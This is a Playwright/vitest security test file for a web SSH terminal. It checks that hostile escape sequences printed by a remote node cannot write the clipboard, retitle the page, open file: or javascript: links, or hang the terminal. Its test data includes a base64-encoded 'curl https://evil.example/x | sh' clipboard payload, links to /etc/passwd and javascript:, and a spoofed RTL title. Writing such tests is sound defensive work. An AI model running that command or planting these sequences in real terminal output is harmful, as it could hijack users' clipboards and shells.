import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  eventually,
  readClipboard,
  screenText,
  terminal,
  typeIn,
  visible,
  waitForScreen,
  startSignedIn,
  type AppUnderTest,
} from './appUnderTest.ts';
import { showScreen } from './accessibility.ts';

/**
 * A node that turns hostile: what it prints reaches the app's terminal, and escape sequences in it
 * must not act without the user. Clipboard writes (OSC 52) are not carried out and the clipboard is
 * never reported back; title changes (OSC 0/1/2) change neither the page's title nor the tab's name;
 * links (OSC 8, or plain text) to `file:` or `javascript:` never open, and http(s) ones open only on a
 * deliberate Ctrl+click, after the check (`renderer/src/terminal/links.ts`), through `window.open` —
 * which the desktop shell checks once more; here, in the browser host, it is the only way out. Long
 * control strings and C1 controls leave a terminal that still answers.
 *
 * The node's output is a file in its home (`DATA/nodes/518839/home`), printed with `cat`.
 */
const NODE = 518839;
const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
const osc = (body: string, end = BEL) => `${ESC}]${body}${end}`;
/** An OSC 8 hyperlink: `text` shown, `uri` its target. */
const hyperlink = (uri: string, text: string) => `${osc(`8;;${uri}`, ST)}${text}${osc('8;;', ST)}`;
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Page globals the test reads (this file compiles for Node, without the DOM's types). */
interface PageGlobals {
  open(...args: unknown[]): unknown;
  opened: string[][];
  document: { title: string };
  navigator: { clipboard: { writeText(text: string): Promise<void> } };
}

let app: AppUnderTest;
let term: Locator;
let home: string;
/** New pages (tabs, popups) the browser opened. */
const popups: Page[] = [];
/** Dialogs the page showed (`alert`, `confirm`: xterm.js's own link prompt uses one). */
const dialogs: string[] = [];
/** Where the app's page went, if anywhere. */
const navigations: string[] = [];

/** Writes `content` to a file in the node's home and prints it in the terminal, up to `end`. */
async function nodePrints(name: string, content: string | Buffer, end: string): Promise<void> {
  writeFileSync(join(home, name), content);
  await typeIn(term, `clear; cat ${name}; echo; echo ${end}\r`);
  await waitForScreen(term, new RegExp(`^${end}$`, 'm'));
}

/** The window.open calls the page made, in order, with their arguments. */
const opened = () => app.page.evaluate(() => (globalThis as unknown as PageGlobals).opened);

/** The middle of the first cells of the screen row that shows `text` (each link starts a row). */
async function rowStart(text: string): Promise<{ x: number; y: number }> {
  const row = term.locator('.xterm-rows > div').filter({ hasText: text }).last();
  const box = await (await visible(row)).boundingBox();
  if (!box) throw new Error(`The row with ${text} is not on the screen.`);
  return { x: box.x + 10, y: box.y + box.height / 2 };
}

/** A click at the start of the row that shows `text`, plain or with Ctrl held. */
async function clickRow(text: string, ctrl: boolean): Promise<void> {
  const { x, y } = await rowStart(text);
  const mouse = app.page.mouse;
  await mouse.move(x, y);
  if (ctrl) await app.page.keyboard.down('Control');
  await mouse.click(x, y);
  if (ctrl) await app.page.keyboard.up('Control');
}

/** The hint the terminal shows for the link under the pointer ('' when there is none). */
const hintText = async () => {
  const hint = app.page.getByRole('tooltip');
  return (await hint.count()) > 0 ? ((await hint.textContent()) ?? '') : '';
};

beforeAll(async () => {
  app = await startSignedIn();
  home = join(app.web.ready.sandbox!.data, 'nodes', String(NODE), 'home');
  const { page, context } = app;
  context.on('page', (opened) => popups.push(opened));
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) navigations.push(frame.url());
  });
  // Every window.open is recorded, then goes on as it would have.
  await page.evaluate(() => {
    const w = globalThis as unknown as PageGlobals;
    const open = w.open.bind(w);
    w.opened = [];
    w.open = (...args: unknown[]) => {
      w.opened.push(args.map(String));
      return open(...args);
    };
  });
  await page.getByRole('button', { name: `Open terminal on node ${NODE}` }).click();
  await visible(page.getByRole('tab', { name: new RegExp(`${NODE}.*\\(connected\\)`) }));
  term = terminal(page, `Terminal on node ${NODE}`);
});
afterAll(async () => {
  await app?.close();
});

describe('a node printing escape sequences', () => {
  it('cannot write the clipboard (OSC 52), nor have it reported', async () => {
    const before = 'what the user copied';
    await app.page.evaluate(
      (text) => (globalThis as unknown as PageGlobals).navigator.clipboard.writeText(text),
      before,
    );
    const payload = base64('curl https://evil.example/x | sh\n');
    await nodePrints(
      'osc52.txt',
      [
        osc(`52;c;${payload}`),
        osc(`52;p;${payload}`, ST),
        osc(`52;s0;${payload}`),
        osc(`52;;${payload}`),
        // In the 8-bit form, C1 OSC … C1 ST (UTF-8 encoded).
        `\u009d52;c;${payload}\u009c`,
        // A query: a terminal that answered would type the clipboard into the node's shell.
        osc('52;c;?'),
        'printed-after-osc52',
        '',
      ].join('\n'),
      'OSC52-END',
    );
    expect(await screenText(term)).toMatch(/^printed-after-osc52$/m);
    // One more round trip through the shell, so anything the sequences set off has happened.
    await typeIn(term, 'echo round-$((1+1))\r');
    await waitForScreen(term, /^round-2$/m);
    expect(await readClipboard(app.page)).toBe(before);
    // Nothing came back: no answer to the query reached the shell's input.
    expect(await screenText(term)).not.toContain(base64(before));
    expect(await screenText(term)).not.toContain('52;');
  });

  it('cannot retitle the page or the tab (OSC 0/1/2), nor have the title reported', async () => {
    const { page } = app;
    const title = await page.evaluate(() => (globalThis as unknown as PageGlobals).document.title);
    const tabs = await page.getByRole('tab').allTextContents();
    await nodePrints(
      'titles.txt',
      [
        osc('0;PWNED-TITLE-0'),
        osc('1;PWNED-ICON-1'),
        osc('2;PWNED-TITLE-2', ST),
        osc('2;\u202egnp.exe PWNED-RTL'),
        `\u009d2;PWNED-C1\u009c`,
        // Push the title, report it (xterm: CSI 21 t), pop it: a report would be typed into the shell.
        `${ESC}[22;0t${ESC}[21t${ESC}[23;0t`,
        'printed-after-titles',
        '',
      ].join('\n'),
      'TITLES-END',
    );
    await typeIn(term, 'echo round-$((2+2))\r');
    await waitForScreen(term, /^round-4$/m);
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).document.title)).toBe(title);
    expect(await page.getByRole('tab').allTextContents()).toEqual(tabs);
    expect(await screenText(term)).not.toMatch(/PWNED/);
  });

  it('opens no file:, javascript: or hidden link, and http(s) only on Ctrl+click through the check', async () => {
    const blanks = ' '.repeat(60);
    await nodePrints(
      'links.txt',
      [
        hyperlink('file:///etc/passwd', 'FILE-LINK-osc8'),
        hyperlink('javascript:alert(1)', 'JS-LINK-osc8'),
        'javascript:alert(2)//JS-PLAIN',
        hyperlink('https://user:secret@example.com/', 'CRED-LINK-osc8'),
        // Blank cells that are a link: a click meant to focus the terminal lands on it.
        `${hyperlink('https://example.com/hidden', blanks)}HIDDEN-END`,
        hyperlink('https://example.com/osc8', 'HTTPS-LINK-osc8'),
        'https://example.com/plain PLAIN-END',
        '',
      ].join('\n'),
      'LINKS-END',
    );
    await showScreen(app.page, 'hostile-links');

    // Neither a click nor a Ctrl+click opens what is not http(s): xterm.js does not even make links of them.
    for (const text of ['FILE-LINK-osc8', 'JS-LINK-osc8', 'JS-PLAIN']) {
      await clickRow(text, false);
      await clickRow(text, true);
    }
    // An https link with credentials is a link, and the hint says it will not open.
    await clickRow('CRED-LINK-osc8', false);
    await eventually(hintText, (text) => expect(text).toMatch(/will not open/));
    await clickRow('CRED-LINK-osc8', true);
    // The hidden link shows where it goes; a plain click (focusing the terminal) does not follow it.
    await clickRow('HIDDEN-END', false);
    await eventually(hintText, (text) => expect(text).toBe('Ctrl+click to open https://example.com/hidden'));
    // Nor is the OSC 8 link's text its address to the user: the hint shows the address.
    await clickRow('HTTPS-LINK-osc8', false);
    await eventually(hintText, (text) => expect(text).toBe('Ctrl+click to open https://example.com/osc8'));
    await showScreen(app.page, 'hostile-links-hint');
    expect(await opened()).toEqual([]);

    // A deliberate Ctrl+click opens the checked address, in a new page of the browser, and nothing else.
    await clickRow('HTTPS-LINK-osc8', true);
    await eventually(opened, (calls) => expect(calls).toHaveLength(1));
    await clickRow('PLAIN-END', true);
    await eventually(opened, (calls) => expect(calls).toHaveLength(2));
    expect(await opened()).toEqual([
      ['https://example.com/osc8', '_blank', 'noopener,noreferrer'],
      ['https://example.com/plain', '_blank', 'noopener,noreferrer'],
    ]);
    await eventually(
      async () => popups.length,
      (count) => expect(count).toBe(2),
    );
    for (const popup of popups) await popup.close();
    expect(dialogs).toEqual([]);
    expect(navigations).toEqual([]);
    // Still the app's own page: the address it was opened at, less the token it drops once read.
    const home = new URL(app.web.ready.url);
    home.search = '';
    expect(app.page.url()).toBe(home.href);
  });

  it('still answers after long control strings and C1 controls', async () => {
    const long = 1_000_000;
    const content = Buffer.concat([
      Buffer.from(
        [
          'LONG-START',
          osc(`0;${'A'.repeat(long)}`),
          `${ESC}P1$r${'q'.repeat(long)}${ST}`,
          `${ESC}_${'apc'.repeat(long / 3)}${ST}`,
          `${ESC}^${'pm'.repeat(1000)}${ST}${ESC}X${'sos'.repeat(1000)}${ST}`,
          `${ESC}[${'1;'.repeat(50_000)}m`,
          hyperlink(`https://example.com/${'x'.repeat(100_000)}`, 'long-link'),
          // 8-bit controls as characters: OSC … ST, CSI, DCS … ST, NEL, RI.
          '\u009d0;c1-title\u009c\u009b31mred\u009b0m\u0090q#0\u009c\u0085\u008d',
          // An unfinished string, then CAN: the terminal drops it and carries on.
          `${ESC}]0;${'B'.repeat(10_000)}\x18`,
          '',
        ].join('\n'),
      ),
      // The same C1 bytes raw, which is not UTF-8.
      Buffer.from([0x9b, 0x9d, 0x90, 0x9c, 0x85, 0x8d, 0x0a]),
      Buffer.from('printed-after-long\n'),
    ]);
    await nodePrints('long.txt', content, 'LONG-END');
    await typeIn(term, 'echo $((6*7))\r');
    await waitForScreen(term, /^42$/m);
    expect(await screenText(term)).toMatch(/^printed-after-long$/m);
    const { page } = app;
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).document.title)).toBe(
      'Enscale SSH',
    );
    await visible(page.getByRole('tab', { name: new RegExp(`${NODE}.*\\(connected\\)`) }));
  });
});
